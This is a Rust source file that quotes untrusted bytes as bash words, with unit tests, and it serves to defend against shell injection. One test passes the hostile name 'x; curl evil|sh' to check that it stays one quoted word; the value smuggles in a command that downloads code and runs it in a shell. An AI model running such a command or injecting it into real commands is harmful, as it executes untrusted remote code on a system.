//! Quoting of untrusted bytes as words of bash.

/// Bytes of arguments that need no quotes.
const SAFE_WORD_CHARS: &[u8] =
    b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:,+@%";

/// Quotes bytes as one word of bash. The name of a command is always quoted, because it might be a keyword or an alias.
pub(crate) fn quote_word(word: &[u8], is_name: bool) -> String {
    if !is_name && !word.is_empty() && word.iter().all(|byte| SAFE_WORD_CHARS.contains(byte)) {
        return String::from_utf8_lossy(word).into_owned();
    }
    match std::str::from_utf8(word) {
        Ok(word) => format!("'{}'", word.replace('\'', "'\\''")),
        Err(_) => {
            let bytes: String = word.iter().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("$'{bytes}'")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::quote_word;

    #[test]
    fn bytes_that_are_not_text_arrive_too() {
        assert_eq!(quote_word(b"a\xff'", false), "$'\\x61\\xff\\x27'");
    }

    #[test]
    fn a_hostile_name_is_one_word() {
        let name = b"x; curl evil|sh 'a'";
        assert_eq!(quote_word(name, true), "'x; curl evil|sh '\\''a'\\'''");
    }
}
